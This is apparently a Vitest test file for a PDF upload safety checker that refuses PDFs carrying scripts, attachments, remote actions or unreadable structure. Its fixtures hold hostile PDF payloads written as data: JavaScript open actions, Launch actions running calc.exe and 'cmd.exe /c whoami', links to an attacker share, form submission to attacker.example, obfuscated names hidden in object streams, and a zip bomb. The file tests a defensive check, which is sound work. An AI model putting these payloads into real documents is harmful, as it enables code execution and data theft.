import { deflateSync } from 'node:zlib';
import { PDFDocument, StandardFonts } from '@cantoo/pdf-lib';
import { describe, expect, it } from 'vitest';
import { pdfBytes, pdfObjectStream, pdfOf, pdfStream, pdfWithOpenActionJs, receiptPdf } from '../test/upload-fixtures';
import { DECODED_BUDGET_BYTES, inspectPdf } from './pdf-safety';

// The PDF check (issue 17 "Low") on small PDFs made here, one per way a PDF can run or carry something:
// where the entry sits does not matter, nor how it is written (an object stream, #xx escapes in a
// name, an object an incremental update replaced); what cannot be checked is refused too.

const findings = async (bytes: Uint8Array) => {
  const verdict = await inspectPdf(bytes);
  return verdict.safe ? [] : verdict.findings;
};

describe('a plain PDF', () => {
  it('is safe: a one-page receipt, one with a web link, and one a PDF library wrote with object and cross-reference streams', async () => {
    expect(await inspectPdf(pdfBytes())).toEqual({ safe: true });
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 50 10] /A << /S /URI /URI (https://www.aupark.sk/) >> >>';
    const goTo = '<< /Type /Annot /Subtype /Link /Rect [0 20 50 30] /A << /S /GoTo /D [3 0 R /Fit] >> >>';
    expect(await inspectPdf(receiptPdf({ page: '/Annots [6 0 R 7 0 R]', extra: [link, goTo] }))).toEqual({ safe: true });

    const document = await PDFDocument.create();
    const page = document.addPage([200, 300]);
    page.drawText('Receipt 24.90 EUR', { x: 20, y: 260, size: 12, font: await document.embedFont(StandardFonts.Helvetica) });
    const written = await document.save({ useObjectStreams: true });
    expect(Buffer.from(written).toString('latin1')).toContain('/ObjStm');
    expect(await inspectPdf(written)).toEqual({ safe: true });
  });
});

describe('a PDF that runs something', () => {
  it('is refused for JavaScript: the OpenAction, the Names tree, a field’s and a page’s additional actions, a /Next chain, an XFA form', async () => {
    expect(await findings(pdfWithOpenActionJs())).toEqual(['javascript']);
    // Document-level scripts, the script in a stream of its own.
    expect(await findings(receiptPdf({ catalog: '/Names << /JavaScript 6 0 R >>', extra: ['<< /Names [(init) 7 0 R] >>', '<< /S /JavaScript /JS 8 0 R >>', pdfStream('', 'this.print()')] }))).toEqual(['javascript']);
    // A form field's keystroke script (the widget on the page, the field in the AcroForm).
    const widget = '<< /Type /Annot /Subtype /Widget /FT /Tx /T (total) /Rect [0 0 50 10] /AA << /K << /S /JavaScript /JS (event.value = 1) >> >> >>';
    expect(await findings(receiptPdf({ catalog: '/AcroForm << /Fields [6 0 R] >>', page: '/Annots [6 0 R]', extra: [widget] }))).toEqual(['javascript']);
    // A page's "on open" action.
    expect(await findings(receiptPdf({ page: '/AA << /O << /S /JavaScript /JS (1) >> >>' }))).toEqual(['javascript']);
    // A harmless first action whose next one is a script.
    expect(await findings(receiptPdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>', extra: ['<< /S /JavaScript /JS (1) >>'] }))).toEqual(['javascript']);
    expect(await findings(receiptPdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', extra: [pdfStream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')] }))).toEqual(['xfa']);
  });

  it('is refused for a Launch: in the OpenAction, a page’s or the document’s additional actions, a link', async () => {
    expect(await findings(receiptPdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' }))).toEqual(['launch']);
    expect(await findings(receiptPdf({ page: '/AA << /C << /S /Launch /Win << /F (cmd.exe) /P (/c whoami) >> >> >>' }))).toEqual(['launch']);
    expect(await findings(receiptPdf({ catalog: '/AA << /WC 6 0 R >>', extra: ['<< /S /Launch /F << /Type /Filespec /F (payload.exe) >> >>'] }))).toEqual(['launch']);
    const link = '<< /Type /Annot /Subtype /Link /Rect [0 0 50 10] /A << /S /Launch /F (\\\\\\\\attacker\\\\share\\\\x.exe) >> >>';
    expect(await findings(receiptPdf({ page: '/Annots [6 0 R]', extra: [link] }))).toEqual(['launch']);
  });

  it('is refused for reaching out: another document (GoToR), sending or importing form data', async () => {
    expect(await findings(receiptPdf({ page: '/Annots [6 0 R]', extra: ['<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit] >> >>'] }))).toEqual(['remote']);
    expect(await findings(receiptPdf({ catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>' }))).toEqual(['form-data']);
    expect(await findings(receiptPdf({ catalog: '/OpenAction << /S /ImportData /F (data.fdf) >>' }))).toEqual(['form-data']);
  });

  it('is refused for an attached file: the Names tree, an embedded file stream, a file-attachment annotation', async () => {
    const spec = '<< /Type /Filespec /F (invoice.xml) /EF << /F 7 0 R >> >>';
    const file = pdfStream('/Type /EmbeddedFile /Subtype /text#2Fxml', '<Invoice/>');
    expect(await findings(receiptPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(invoice.xml) 6 0 R] >> >>', extra: [spec, file] }))).toEqual(['embedded-file']);
    const annotation = '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>';
    expect(await findings(receiptPdf({ page: '/Annots [8 0 R]', extra: [spec, file, annotation] }))).toEqual(['embedded-file']);
  });
});

describe('what is written to hide it', () => {
  it('is found: packed in a compressed object stream, with #xx escapes in the names', async () => {
    const hidden = receiptPdf({ catalog: '/OpenAction 7 0 R', extra: [pdfObjectStream(7, ['<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>'])] });
    expect(hidden.toString('latin1')).not.toContain('JavaScript');
    expect(await findings(hidden)).toEqual(['javascript']);
    expect(await findings(receiptPdf({ catalog: '/OpenAction << /S /#4caunch /F (calc.exe) >>' }))).toEqual(['launch']);
  });

  it('is found when an incremental update replaced the object (a reader of the older cross-reference still sees it)', async () => {
    const original = receiptPdf({ catalog: '/OpenAction 6 0 R', extra: ['<< /S /JavaScript /JS (1) >>'] });
    const updated = Buffer.concat([original, Buffer.from('6 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n', 'latin1')]);
    expect(await findings(updated)).toEqual(['javascript']);
  });

  it('is found in an object the parser cannot read', async () => {
    // A dictionary that never closes: a lenient reader may still take its action.
    expect(await findings(receiptPdf({ catalog: '/OpenAction 6 0 R', extra: ['<< /S /Launch /F (calc.exe) /Q [ 1 2 >>'] }))).toContain('launch');
  });
});

describe('a PDF that cannot be checked', () => {
  it('is refused: encrypted, an object stream that inflates past the budget (a zip bomb), no PDF structure at all', async () => {
    expect(await findings(receiptPdf({ extra: ['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'], trailer: '/Encrypt 6 0 R /ID [<01> <01>]' }))).toEqual(['encrypted']);

    const spaces = Buffer.alloc(DECODED_BUDGET_BYTES + 1024 * 1024, 0x20);
    const bomb = deflateSync(spaces);
    expect(bomb.length).toBeLessThan(200 * 1024);
    const bombStream = Buffer.concat([Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n`, 'latin1'), bomb, Buffer.from('\nendstream', 'latin1')]);
    const started = process.memoryUsage().arrayBuffers;
    expect(await findings(receiptPdf({ extra: [bombStream] }))).toEqual(['unreadable']);
    // Refused before the parser inflated it whole.
    expect(process.memoryUsage().arrayBuffers - started).toBeLessThan(DECODED_BUDGET_BYTES * 2);

    expect(await findings(Buffer.from('%PDF-1.4\nnothing but words, no objects at all\n', 'latin1'))).toEqual(['unreadable']);
    expect(await findings(pdfOf([]))).toEqual(['unreadable']);
  });
});
